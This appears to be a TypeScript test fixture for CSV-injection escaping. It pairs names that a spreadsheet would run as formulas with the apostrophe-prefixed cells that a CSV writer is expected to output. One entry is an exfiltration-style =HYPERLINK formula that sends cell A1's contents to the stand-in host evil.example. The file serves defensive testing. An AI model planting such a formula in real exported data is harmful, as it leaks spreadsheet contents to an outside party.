// Story and label names a spreadsheet would run as formulas (OWASP "CSV Injection"), each with the cell
// the one CSV writer must make of it: a leading `'`, one more where the name already starts with quotes.
export const FORMULA_NAMES: ReadonlyArray<readonly [string, string]> = [
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
  ['+1', "'+1"],
  ['-2', "'-2"],
  ['@x', "'@x"],
  ['\tTabbed', "'\tTabbed"],
  ['\rReturned', "'\rReturned"],
  ["'=quoted already", "''=quoted already"],
  ['plain - name', 'plain - name'],
];

